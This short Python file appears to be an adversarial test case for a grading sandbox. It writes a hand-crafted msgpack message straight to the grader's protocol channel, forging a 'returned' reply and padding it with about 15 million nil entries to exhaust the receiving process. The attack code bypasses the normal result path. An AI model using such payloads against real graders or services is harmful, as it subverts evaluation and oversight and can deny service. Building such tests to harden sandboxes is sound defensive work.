# family: the protocol
# success: millions of arguments that nobody asked for are kept and gone through
# tiers: A B
import os
import struct
import sys

import msgspec

wire = sys.modules["grader.sandbox.worker.wire"]


def send(message):
    payload = message if isinstance(message, bytes) else msgspec.msgpack.encode(message)
    data = memoryview(struct.pack("<I", len(payload)) + payload)
    while data:
        data = data[os.write(3, data) :]


def double(x):
    n = (15 << 20) - 100
    head = b"\x82\xa4type\xa7replies\xa7replies\x91\x95\xa8returned\x00\xc0\xdd" + struct.pack(">I", n)
    send(head + b"\xc0" * n + b"\x90")
    return None


total = double
